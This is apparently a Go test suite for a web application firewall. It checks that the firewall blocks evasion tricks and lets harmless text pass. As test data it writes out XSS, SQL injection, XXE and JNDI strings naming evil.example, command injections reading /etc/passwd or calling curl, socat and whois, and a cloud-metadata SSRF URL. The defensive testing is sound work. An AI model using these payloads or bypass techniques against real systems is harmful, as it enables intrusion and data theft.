package waf_test

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/doorward/doorward/gateway/waf"
)

// sent is a request that somebody writes by hand: header lines as name, value, name, value.
func sent(method, uri, body string, headers ...string) *http.Request {
	h := http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"}, "Accept": {"text/html"},
		"Accept-Language": {"en-US,en;q=0.5"}}
	for i := 0; i < len(headers); i += 2 {
		h[headers[i]] = append(h[headers[i]], headers[i+1])
	}
	r := &http.Request{Method: method, URL: &url.URL{Path: "/"}, RequestURI: uri, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1, Host: "desk.example",
		Header: h, Body: http.NoBody}
	if body != "" {
		r.Body, r.ContentLength = io.NopCloser(strings.NewReader(body)), int64(len(body))
	}
	return r
}

// ask shows a request to a site. report is nil where nothing was found.
func ask(t *testing.T, s *waf.Site, r *http.Request) (refused bool, report *waf.Report) {
	t.Helper()
	now := time.Unix(1700000000, 0).UTC()
	i, verdict, err := s.Inspect(r, waf.Request{ID: "id", Client: netip.MustParseAddr("192.0.2.7"), Server: netip.MustParseAddrPort("192.0.2.1:443"),
		Host: "desk.example", URI: r.RequestURI, Covers: func(string) bool { return true }}, now)
	if err == nil && verdict == nil {
		_, verdict, err = i.Body(r.Body)
	}
	var fault *waf.Fault
	limited := errors.As(err, &fault) && fault.Kind == waf.Limit
	if err != nil && !limited {
		t.Fatal(err)
	}
	return verdict != nil || limited, i.Finish(now, nil)
}

// onePart is a multipart body with one part.
func onePart(head, content string) string {
	return "--x\r\n" + head + "\r\n\r\n" + content + "\r\n--x--\r\n"
}

// TestAttacker is what an attacker tried on the rules, with one engine for all of it.
func TestAttacker(t *testing.T) {
	e := engine(t, waf.Doorward)
	own := site(t, e, 1)
	t.Run("ways around", func(t *testing.T) { waysAround(t, own) })
	t.Run("commands in sentences", func(t *testing.T) { commandsInSentences(t, own) })
	t.Run("exclusions of one name", func(t *testing.T) { exclusionsOfOneName(t, e) })
	t.Run("third round", func(t *testing.T) { thirdRound(t, own) })
	t.Run("secrets", func(t *testing.T) { secretsAreNotTold(t, own) })
}

// thirdRound measures the attacks of somebody who tried what else there is; -v shows what passes.
func thirdRound(t *testing.T, own *waf.Site) {
	of := func(e entry) string { return e.class }
	sum, byClass := measure(t, own, corpus(t, "third-attacks", ""), of, func(e entry, refused bool, hits string) {
		if !refused {
			t.Logf("passes: %v (%s)", e, hits)
		}
	})
	t.Logf("%.1f %% of %d are stopped: %s", percent(sum), sum.all, list(byClass))
	if percent(sum) < 93 {
		t.Errorf("%.1f %% of %d are stopped, want 93", percent(sum), sum.all)
	}
}

// waysAround tries what attackers do to a request so that rules do not see what the application reads. Each was a way past
// the rules once, or is the harmless neighbour of one.
func waysAround(t *testing.T, own *waf.Site) {
	const kind, form, jsonKind, xmlKind, partsKind = "Content-Type", "application/x-www-form-urlencoded", "application/json", "text/xml", "multipart/form-data; boundary=x"
	const script = "%3Cscript%3Ealert(1)%3C/script%3E"
	var members, elements strings.Builder
	for i := range 1001 {
		fmt.Fprintf(&members, `"k%d":%d,`, i, i)
		fmt.Fprintf(&elements, "%d,", i)
	}
	code := base64.StdEncoding.EncodeToString([]byte("<script>alert(1)</script> and more"))
	for name, c := range map[string]struct {
		r    *http.Request
		want bool
	}{
		"behind 1000 parameters":          {sent("GET", "/?"+strings.Repeat("a&", 1000)+"q="+script, ""), true},
		"behind 1000 fields":              {sent("POST", "/", strings.Repeat("a&", 1000)+"q="+script, kind, form), true},
		"behind 1000 members":             {sent("POST", "/", "{"+members.String()+`"q":"<script>alert(1)</script>"}`, kind, jsonKind), true},
		"behind 1000 elements":            {sent("POST", "/", "["+elements.String()+`"<script>alert(1)</script>"]`, kind, jsonKind), true},
		"behind 1000 cookies":             {sent("GET", "/", "", "Cookie", strings.Repeat("a;", 1000)+"q=<script>alert(1)</script>"), true},
		"many fields":                     {sent("POST", "/", strings.Repeat("row=7&", 999)+"q=hello", kind, form), false},
		"in two values of a name":         {sent("GET", "/?q=1'%20or/*&q=*/1%3d1--", ""), true},
		"in two fields of a name":         {sent("POST", "/", "q=;cat%20/etc&x=1&Q=/passwd", kind, form), true},
		"in values of many names":         {sent("POST", "/", strings.Repeat("a=1&", 30)+"q=1'+or/*&b=2&q=*/1%3d1--", kind, form), true},
		"two values of a name":            {sent("GET", "/?q=O'Brien,+Ann&q=D'Arcy,+Bob&n=1&n=2", ""), false},
		"base64 with signs between":       {sent("GET", "/?q="+url.QueryEscape(code[:8]+"*"+code[8:]), ""), true},
		"base64 with dots":                {sent("GET", "/?q="+strings.Join(strings.Split(code, ""), "."), ""), true},
		"JSON in a form":                  {sent("POST", "/", `{"q":"' or 'a'='a"}`, kind, form), true},
		"XML in a form":                   {sent("POST", "/", `<x>&#39; OR &#39;a&#39;=&#39;a</x>`, kind, form), true},
		"harmless JSON in a form":         {sent("POST", "/", `{"q":"hello, O'Brien","list":["a","b"]}`, kind, form), false},
		"a cookie in quotes":              {sent("GET", "/", "", "Cookie", `q="\047\040OR\0401=1\040--\040"`), true},
		"a harmless cookie in quotes":     {sent("GET", "/", "", "Cookie", `q="say \"hello\" \303\251"`), false},
		"letters of full width":           {sent("GET", "/?q="+url.QueryEscape("＄｛jndi：ldap：//evil.example/x｝"), ""), true},
		"Japanese":                        {sent("GET", "/?q="+url.QueryEscape("お世話になっております（東京）。プリンターが動きません！？"), ""), false},
		"an entity behind a long comment": {sent("POST", "/", `<!DOCTYPE x [<!--`+strings.Repeat("x", 3000)+`--><!ENTITY y SYSTEM "file:///etc/x">]><x>&y;</x>`, kind, xmlKind), true},
		"an entity behind 100 others":     {sent("POST", "/", `<!DOCTYPE x [`+strings.Repeat(`<!ENTITY a "some text">`, 100)+`<!ENTITY y SYSTEM "x">]><x>&y;</x>`, kind, xmlKind), true},
		"an entity that is an attack":     {sent("POST", "/", `<!DOCTYPE x [<!ENTITY y "&#39; OR &#x27;a'='a">]><x>&y;</x>`, kind, xmlKind), true},
		"an attribute":                    {sent("POST", "/", `<x y="' OR 1=1 -- "/>`, kind, xmlKind), true},
		"harmless attributes":             {sent("POST", "/", `<x xmlns="http://www.example.org/ns" y="O'Brien" z="7"/>`, kind, xmlKind), false},
		"a file's name that is none":      {sent("POST", "/", onePart(`Content-Disposition: form-data; name="q"; filename ="a"`, "<script>alert(1)</script>"), kind, partsKind), true},
		"a file":                          {sent("POST", "/", onePart(`Content-Disposition: form-data; name="q"; filename="a.txt"`, "hello"), kind, partsKind), false},
		"a name with NUL":                 {sent("GET", "/?q=x.php%00.jpg", ""), true},
	} {
		refused, report := ask(t, own, c.r)
		if refused != c.want {
			t.Errorf("%s: refused is %v, want %v (%+v)", name, refused, c.want, report)
		}
	}
}

// commandsInSentences: what is narrowed for prose must not let commands pass that are no words of a language.
func commandsInSentences(t *testing.T, own *waf.Site) {
	for _, text := range []string{"8.8.8.8; python3 x", "8.8.8.8\npython3 x", "printer; whois evil.example", "a & curl x", "Ann Lee; socat foo bar", "time curl evil.example",
		"name; tail secrets.txt", "x; mysqldump helpdesk", "cat /[e]tc/pas[s]wd", "/bi[n]/bash", "please; tar -xzf /var/www/all.tar.gz /etc", "http://[::ffff:169.254.169.254]/latest"} {
		if refused, report := ask(t, own, sent("GET", "/?q="+url.QueryEscape(text), "")); !refused {
			t.Errorf("%q passes: %+v", text, report)
		}
	}
	for _, text := range []string{"I was ill; find me after lunch", "It is broken.\nmore in the attachment", "Siobhán & Co; sort this out", "Time flies; make it work, please", "postfix/smtp[99]: to=<x@example.org>, status=deferred"} {
		if refused, report := ask(t, own, sent("GET", "/?q="+url.QueryEscape(text), "")); refused {
			t.Errorf("%q is refused: %+v", text, report)
		}
	}
}

// exclusionsOfOneName: whoever names a parameter /./ or 'text' must not get an exclusion for all, or for another.
func exclusionsOfOneName(t *testing.T, e *waf.Engine) {
	for _, name := range []string{"/./", "/.*/", "'q'", "/a\\/b|q/"} {
		s, err := e.Site(waf.SiteOptions{Mode: waf.Block, Answers: waf.Off, ParanoiaLevel: 1, InboundThreshold: 5, OutboundThreshold: 4, BodyLimit: 1 << 20, AnswerLimit: 1 << 10,
			Exclusions: []waf.Exclusion{{Rules: []waf.IDs{{First: 900000, Last: 999999}, {First: 30000000, Last: 30000999}}, Target: waf.TargetOf("ARGS", name)}}})
		if err != nil {
			t.Fatal(err)
		}
		const script = "=%3Cscript%3Ealert(1)%3C/script%3E"
		if refused, _ := ask(t, s, sent("GET", "/?q"+script, "")); !refused {
			t.Errorf("an exclusion for %q lets an attack in q pass", name)
		}
		// A name of slashes matches rules itself; that its value matches none is what counts.
		if _, report := ask(t, s, sent("GET", "/?"+url.QueryEscape(name)+script, "")); report != nil {
			for _, hit := range report.Hits {
				if hit.Variable == "ARGS:"+name {
					t.Errorf("an exclusion for %q does not hold: %+v", name, hit)
				}
			}
		}
	}
}

// secretsAreNotTold: a secret that stands in a text with other things is no more told than one with a parameter of its own.
func secretsAreNotTold(t *testing.T, own *waf.Site) {
	const secret, attack = "hunter2", "' or 'a'='a"
	for name, r := range map[string]*http.Request{
		"a parameter":           sent("GET", "/?password="+url.QueryEscape(secret+attack), ""),
		"JSON in a parameter":   sent("GET", "/?data="+url.QueryEscape(`{"user":"ann","password":"`+secret+attack+`"}`), ""),
		"base64 of JSON":        sent("GET", "/?data="+base64.StdEncoding.EncodeToString([]byte(`{"user":"ann","password":"`+secret+attack+`"}`)), ""),
		"XML":                   sent("POST", "/", "<a><user>ann</user><password>"+secret+attack+"</password></a>", "Content-Type", "text/xml"),
		"an attribute":          sent("POST", "/", `<a user="ann" password="`+secret+attack+`"/>`, "Content-Type", "text/xml"),
		"the page before":       sent("GET", "/?q=%3Cscript%3E", "", "Referer", "https://desk.example/reset?token="+secret+"&x=<script>alert(1)</script>"),
		"JSON as a form's body": sent("POST", "/", `{"password":"`+secret+attack+`"}`, "Content-Type", "application/x-www-form-urlencoded"),
		"a cookie":              sent("GET", "/", "", "Cookie", "x="+secret+attack),
		"a header line":         sent("GET", "/", "", "X-Api-Token", secret+attack),
		"JSON in a header line": sent("GET", "/", "", "X-Report", `{"user":"ann","password":"`+secret+attack+`"}`),
	} {
		_, report := ask(t, own, r)
		if report == nil || len(report.Hits) == 0 {
			t.Errorf("%s: nothing was found", name)
			continue
		}
		text, err := json.Marshal(report.Hits)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(text), secret) {
			t.Errorf("%s: the secret is told: %s", name, text)
		}
	}
	_, report := ask(t, own, sent("GET", "/?q="+url.QueryEscape("I forgot my password. <script>alert(1)</script>"), ""))
	if report == nil || !strings.Contains(report.Hits[0].Value, "<script>") {
		t.Errorf("a value that is no secret is not told: %+v", report)
	}
}
